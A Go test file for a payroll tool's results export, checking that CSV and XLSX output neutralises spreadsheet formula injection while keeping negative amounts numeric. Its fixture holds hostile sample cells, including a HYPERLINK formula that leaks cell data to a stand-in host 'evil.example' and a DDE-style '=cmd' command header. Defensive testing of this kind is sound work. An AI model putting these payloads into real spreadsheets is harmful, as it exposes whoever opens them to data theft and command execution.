package results

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/payrun/payrun/batch/ingest"
	"github.com/payrun/payrun/batch/sheet"
	"github.com/xuri/excelize/v2"
)

func TestInertText(t *testing.T) {
	for in, want := range map[string]string{
		"":                     "",
		"Ana":                  "Ana",
		"=1+1":                 "'=1+1",
		"+1-1":                 "'+1-1",
		"-2+3":                 "'-2+3",
		"@SUM(A1)":             "'@SUM(A1)",
		"\tx":                  "'\tx",
		"\rx":                  "'\rx",
		"\uff1dSUM(A1)":        "'\uff1dSUM(A1)",
		"a=b":                  "a=b",
		"https://x.example/=1": "https://x.example/=1",
		// Whitespace before the sign: spreadsheets trim it and evaluate.
		" =1+1":               "' =1+1",
		"  +1":                "'  +1",
		"\n=HYPERLINK(x)":     "'\n=HYPERLINK(x)",
		"\u00a0@SUM(A1)":      "'\u00a0@SUM(A1)",
		"\u3000\uff1dSUM(A1)": "'\u3000\uff1dSUM(A1)",
		" -2":                 "' -2",
		" Ana":                " Ana",
		"\nAna":               "'\nAna",
	} {
		if got := InertText(in); got != want {
			t.Errorf("InertText(%q) = %q, want %q", in, got, want)
		}
	}
}

// injectionSource is a run whose payee fields are formulas.
func injectionSource() *sliceSource {
	evil := []sheet.InputField{
		{Header: "client_transfer_id", Value: "inj-1"},
		{Header: "first_name", Value: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
		{Header: "last_name", Value: "+1-1"},
		{Header: "email", Value: "@SUM(A1)"},
		{Header: "notes", Value: "-2+3"},
		{Header: "=cmd|' /C calc'!A0", Value: "\tTAB"},
		{Header: "amount", Value: "-5.00"},
		{Header: "city", Value: " =1+1"},
		{Header: "state_province", Value: "\n=1+1"},
	}
	return &sliceSource{
		run: ResultsRun{ID: 1, SheetName: "evil.csv", StartedAt: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)},
		rows: []ResultRow{{
			SheetLine: 2, ClientTransferID: "inj-1", Input: evil, Amount: dec("-5.00"),
			SourceCurrency: "USD", State: "INVALID", LastError: "=1+2 amount must be positive",
			Fee: nd("-1.50"), SourceAmount: nd("-5.00"),
		}},
	}
}

// TestResultsFormulaInjectionXLSX: formulas in payee fields come out as
// inert text, while real negative numbers in numeric columns stay numbers.
func TestResultsFormulaInjectionXLSX(t *testing.T) {
	path := filepath.Join(t.TempDir(), "evil.results.xlsx")
	if _, err := WriteResultsFrom(context.Background(), injectionSource(), path, ResultsOptions{}); err != nil {
		t.Fatal(err)
	}
	f := openBook(t, path)
	rows := rawRows(t, f, SheetResults)
	header, row := rows[0], rows[1]
	for _, sheetName := range []string{SheetResults, SheetNeedsAction, SheetSummary} {
		rs := rawRows(t, f, sheetName)
		for r, cells := range rs {
			for c := range cells {
				ref := cellRef(c, r+1)
				if fm, err := f.GetCellFormula(sheetName, ref); err != nil || fm != "" {
					t.Errorf("%s!%s has formula %q (err %v)", sheetName, ref, fm, err)
				}
			}
		}
	}
	for name, want := range map[string]string{
		"first_name":          `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
		"last_name":           "'+1-1",
		"email":               "'@SUM(A1)",
		"notes":               "'-2+3",
		"'=cmd|' /C calc'!A0": "'\tTAB",
		"city":                "' =1+1",
		"state_province":      "'\n=1+1",
	} {
		i := colIndex(t, header, name, 0)
		if row[i] != want {
			t.Errorf("Results %s = %q, want %q", header[i], row[i], want)
		}
		typ, _ := f.GetCellType(SheetResults, cellRef(i, 2))
		if typ != excelize.CellTypeInlineString {
			t.Errorf("Results %s has type %v, want a string", header[i], typ)
		}
	}
	if e := row[colIndex(t, header, "error", 0)]; e != "'=1+2 amount must be positive" {
		t.Errorf("error = %q", e)
	}
	// Negative amounts are numbers, not neutralised text.
	for _, name := range []string{"amount", "fee", "source_amount"} {
		i := colIndex(t, header, name, 0)
		typ, _ := f.GetCellType(SheetResults, cellRef(i, 2))
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s has type %v, want a number", name, typ)
		}
		if !strings.HasPrefix(row[i], "-") {
			t.Errorf("%s = %q, want a negative number", name, row[i])
		}
	}
}

func TestResultsFormulaInjectionCSV(t *testing.T) {
	path := filepath.Join(t.TempDir(), "evil.results.csv")
	sum, err := WriteResultsFrom(context.Background(), injectionSource(), path, ResultsOptions{Format: ingest.FormatCSV})
	if err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, path)
	header, row := recs[0], recs[1]
	for name, want := range map[string]string{
		"first_name":          `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
		"last_name":           "'+1-1",
		"email":               "'@SUM(A1)",
		"notes":               "'-2+3",
		"'=cmd|' /C calc'!A0": "'\tTAB",
		"amount":              "-5.00", // the amount column is numeric: a number stays a number
		"city":                "' =1+1",
		"state_province":      "'\n=1+1",
	} {
		i := colIndex(t, header, name, 0)
		if row[i] != want {
			t.Errorf("CSV %s = %q, want %q", header[i], row[i], want)
		}
	}
	if got := row[colIndex(t, header, "fee", 0)]; got != "-1.50" {
		t.Errorf("fee = %q, want -1.50", got)
	}
	// No cell of either file starts with a formula character.
	for _, p := range []string{path, sum.SummaryPath} {
		for _, rec := range readCSV(t, p) {
			for _, v := range rec {
				if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) {
					t.Errorf("%s: live cell %q", filepath.Base(p), v)
				}
			}
		}
	}
}

// readCSV reads a results CSV, checking and dropping its UTF-8 BOM.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	s, ok := strings.CutPrefix(string(b), utf8BOM)
	if !ok {
		t.Errorf("%s: no UTF-8 BOM", path)
	}
	r := csv.NewReader(strings.NewReader(s))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("parse %s: %v", path, err)
	}
	return recs
}
